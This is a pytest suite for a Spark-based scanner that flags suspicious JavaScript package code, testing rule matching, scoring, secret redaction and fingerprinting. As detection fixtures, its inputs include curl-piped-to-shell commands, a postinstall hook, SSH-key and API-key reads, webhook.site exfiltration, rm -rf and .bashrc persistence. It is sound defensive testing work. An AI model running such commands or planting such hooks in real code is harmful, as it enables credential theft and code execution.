import pytest
from pyspark.sql import functions as F

from sievework.functions import text as T
from sievework.operators import findings as fd
from sievework.operators.labels import band_match, detected, metrics
from sievework.operators.match import match_rules
from sievework.operators.regions import contain
from sievework.plans.catalog import Rule, audit_pack, corpus_pack, rules_table

FILES = "package string, path string, content string"


def hits(spark, content, path="a.js", rules=None, **k):
    df = spark.createDataFrame([("p", path, content)], FILES)
    return sorted((r.rule_id, r.line, r.pattern_no, r.n, r.saved) for r in match_rules(df, rules or audit_pack(), **k).collect())


def ids(spark, content, path="a.js"):
    return sorted({h[0] for h in hits(spark, content, path)})


def test_catalog():
    pack = audit_pack()
    assert len({r.id for r in pack}) == len(pack) == 55
    assert {r.severity for r in pack} == {"critical", "high", "medium", "low", "info"}


@pytest.mark.parametrize("code,want", [
    ("const cp = require('child_process');\nexec('curl http://x | sh')", "SEN-EXEC-001"),
    ("cp.exec('ls')", "SEN-EXEC-002"),
    ("eval(x)", "SEN-EXEC-003"),
    ("eval(atob(x))", "SEN-EXEC-004"),
    ("fs.readFileSync('/home/u/.ssh/id_rsa')", "SEN-CRED-001"),
    ("const k = process.env.OPENAI_API_KEY", "SEN-CRED-002"),
    ("const k = 'ghp_" + "a" * 36 + "'", "SEN-CRED-003"),
    ("fetch('https://webhook.site/x')", "SEN-EXFIL-001"),
    ("x = '" + "A" * 220 + "'", "SEN-OBF-001"),
    ("run('rm -rf ~/x')", "SEN-FS-001"),
    ("const ip = '8.8.8.8'", "SEN-NET-002"),
    ("crontab -e", "SEN-PERSIST-001"),
    ("fs.appendFileSync('/root/.bashrc', x)", "SEN-PERSIST-002"),
])
def test_rules_hit(spark, code, want):
    assert want in ids(spark, code)
    assert want not in ids(spark, code, "notes.txt")


def test_rules_that_must_not_hit(spark):
    assert "SEN-EXEC-002" not in ids(spark, "spawn(state)")  # nothing imported
    assert "SEN-EXEC-002" not in ids(spark, "import { spawn } from 'child_process';\nspawn('git', ['status'])")  # constant, by arguments
    assert ids(spark, "// eval(x)\n * eval(y)") == []
    assert "SEN-EXEC-003" not in ids(spark, 'new Function("return this")()')
    assert "SEN-NET-002" not in ids(spark, "a = '192.168.1.1'; b = '10.0.0.1'")
    assert ids(spark, None) == []
    assert "SEN-INST-002" in ids(spark, '{"scripts": {"postinstall": "curl http://x | sh"}}', "package.json")


def test_lines_order_caps_and_guard(spark):
    one = (Rule("R", "r", "high", "x", None, (("b", None, None), ("a", None, None)), ()),)
    assert hits(spark, "a\nab\n\nb", rules=one) == [("R", 1, 1, 3, True), ("R", 2, 0, 1, True), ("R", 4, 0, 2, True)]
    many = hits(spark, "a\n" * 300, rules=(Rule("R", "r", "high", "x", None, (("a", None, None),)),))
    assert len(many) == 200 and sum(h[4] for h in many) == 10
    first = (Rule("R", "r", "high", "x", None, (), (("a", None, None),), excludes=("skip",)),)
    assert hits(spark, "a skip\na", rules=first) == []  # the first match is excluded; later ones are not tried
    across = (Rule("R", "r", "high", "x", None, ((r"x\s+y", None, None),)),)
    assert hits(spark, "\nx\n\ny", rules=across) == [("R", 2, 0, 1, True)]


def scored(spark, rows):
    df = spark.createDataFrame(rows, "package string, path string, rule_id string, severity string, category string, line int, saved boolean")
    return fd.suppress(fd.with_context(df))


def test_scores(spark):
    rows = [("p", "a.js", "SEN-EXEC-003", "high", "e", 1, True), ("p", "a.js", "SEN-EXEC-004", "high", "e", 1, True), ("p", "test/a.js", "X", "critical", "e", 1, True), ("p", "test/b.js", "X", "critical", "e", 1, True), ("q", "a.js", "Y", "low", "e", 1, False)]
    s = scored(spark, rows)
    assert [r.suppressed for r in s.orderBy("package", "path", "rule_id").collect()] == [True, False, False, False, False]
    packages = spark.createDataFrame([("p",), ("q",), ("r",)], "package string")
    complete = spark.createDataFrame([("p", True), ("q", True), ("r", False)], "package string, complete boolean")
    got = {r.package: (r.findings, r.score, r.verdict) for r in fd.verdicts(fd.package_scores(fd.raw_scores(s)), packages, complete).collect()}
    assert got == {"p": (4, 40, "review"), "q": (1, 3, "safe"), "r": (0, 20, "review")}  # 20 source, 40 in tests capped at 20
    again = {r.package: r.score for r in fd.package_scores(fd.raw_scores(scored(spark, rows[::-1]).repartition(5))).collect()}
    assert again == {"p": 40, "q": 3}


def test_context_and_reachability(spark):
    df = spark.createDataFrame([("p", "test/x.js"), ("p", "examples/y.js"), ("p", "src/z.js"), ("p", "a.spec.ts")], "package string, path string")
    live = spark.createDataFrame([("p", "test/x.js")], "package string, path string")
    assert {r.path: r.context for r in fd.with_context(df, live).collect()} == {"test/x.js": "source", "examples/y.js": "development", "src/z.js": "source", "a.spec.ts": "test"}


def test_redaction(spark):
    key, aws = "sk-" + "abcdef0123456789", "AKIA" + "B" * 16
    df = spark.createDataFrame([(f"k={key} a={aws} k={key}",), ("plain",), (None,)], "t string")
    got = [r.x for r in df.select(T.redact(F.col("t")).alias("x")).collect()]
    assert got == [f"k={key[:6]}****{key[-4:]} a={aws[:6]}****{aws[-4:]} k={key[:6]}****{key[-4:]}", "plain", None]
    prints = df.select(T.secret_fingerprints(F.col("t")).alias("x")).collect()[0].x
    assert len(prints) == 3 and prints[0] == prints[1] and all(len(p) == 24 for p in prints)


def test_fingerprints_and_baseline(spark):
    p = lambda path, m: T.fingerprint(F.lit("R"), F.lit(path), F.lit(None), F.lit(None), F.lit(m))
    a, b, c = spark.range(1).select(p("A\\b.js", " x  y "), p("a/b.js", "x y"), p("a/b.js", "x z")).first()
    assert a == b != c
    df = spark.createDataFrame([("f", 1), ("f", 2), ("g", 1)], "fingerprint string, line int")
    got = fd.occurrences(df, ["line"]).collect()
    assert len({r.fingerprint for r in got}) == 3 and sorted(r.occurrence for r in got) == [1, 1, 2]
    state = {r.fingerprint: r.state for r in fd.baseline(df, spark.createDataFrame([("g",), ("h",)], "fingerprint string")).collect()}
    assert state == {"f": "new", "g": "existing", "h": "resolved"}


@pytest.mark.parametrize("glob,yes,no", [("a/**", ["a/b", "a/b/c"], ["b/a", "a"]), ("**/x.js", ["x.js", "a/b/x.js"], ["ax.js"]), ("*.js", ["a.js"], ["a/b.js"]), ("a?.c", ["ab.c"], ["a/.c", "abb.c"])])
def test_globs(glob, yes, no):
    import re

    p = re.compile(T.glob_pattern(glob))
    assert all(p.match(x) for x in yes) and not any(p.match(x) for x in no)


def test_hosts_and_addresses(spark):
    urls = ["http://Ex.com:80/a", "https://u@h/x", "http://[::1]/", "nope", None]
    df = spark.createDataFrame([(u,) for u in urls], "u string")
    assert [r.h for r in df.select(T.host(F.col("u")).alias("h")).collect()] == ["ex.com", "h", "::1", None, None]
    ips = {"8.8.8.8": False, "10.1.1.1": True, "172.16.0.1": True, "172.32.0.1": False, "169.254.169.254": True, "300.1.1.1": True, "100.64.0.1": False, "203.0.113.9": False, "224.0.0.1": True, "::1": True, "fe80::1": True, "2606:4700::1": False}
    df = spark.createDataFrame([(i,) for i in ips], "i string")
    assert {r.i: r.p for r in df.select("i", T.private_ip(F.col("i")).alias("p")).collect()} == ips
    assert {r.i for r in df.select("i", T.private_ip(F.col("i"), wide=True).alias("p")).collect() if r.p} == {i for i in ips if i not in ("8.8.8.8", "172.32.0.1", "2606:4700::1")}


def test_regions(spark):
    points = spark.createDataFrame([(1, 5, "a"), (1, 500, "b"), (2, 5, "c"), (1, 64, "d")], "item int, line int, v string")
    regions = spark.createDataFrame([(1, 3, 70), (1, 1, 6), (1, 499, 500)], "item int, lo int, hi int")
    assert {r.v: r.region for r in contain(points, regions, ["item"]).collect()} == {"a": 1, "b": 499, "c": None, "d": 3}


def test_labels(spark):
    rows = spark.createDataFrame([("g", True, True), ("g", True, False), ("g", False, True), ("h", False, False)], "k string, expected boolean, found boolean")
    got = {r.k: r for r in metrics(rows, ["k"]).collect()}
    assert (got["g"].tp, got["g"].fp, got["g"].fn, got["g"].precision, got["g"].f1) == (1, 1, 1, 0.5, 0.5) and got["h"].recall is None
    schema = "item string, rule_id string, line long"
    m = band_match(spark.createDataFrame([("i", "r", 10), ("i", "r", 11), ("i", "r", 30), ("j", "r", 1)], schema), spark.createDataFrame([("i", "r", 12), ("i", "r", 9), ("i", "s", 30)], schema))
    assert sorted((r.item, r.line, r.at) for r in m.collect() if r.at) == [("i", 10, 9), ("i", 11, 12)]


def test_band_match_is_the_greedy_one(spark):
    import random

    rng, schema = random.Random(5), "item string, rule_id string, line long"
    draw = lambda n: [(rng.choice("ab"), rng.choice("rs"), rng.randrange(40)) for _ in range(n)]
    expected, found = draw(60), draw(50)
    want, free = [], sorted(found)
    for item, rule, line in sorted(expected):
        hit = next((f for f in free if f[:2] == (item, rule) and abs(f[2] - line) <= 2), None)
        if hit:
            free.remove(hit)
        want.append((item, rule, line, hit and hit[2]))
    got = band_match(spark.createDataFrame(expected, schema), spark.createDataFrame(found, schema)).collect()
    key = lambda r: (*r[:3], -1 if r[3] is None else r[3])
    assert sorted(map(key, got)) == sorted(map(key, want))
    a, b = spark.createDataFrame(expected, schema), spark.createDataFrame(found, schema)
    assert {tuple(r) for r in detected(a, b, ["item", "line"]).collect()} == {(i, n) for i, _, n in expected} & {(i, n) for i, _, n in found}
    assert band_match(a, b.limit(0)).where("at IS NOT NULL").count() == 0 and band_match(a.limit(0), b).count() == 0


def test_rules_table(spark):
    assert rules_table(spark, corpus_pack()).count() == 8
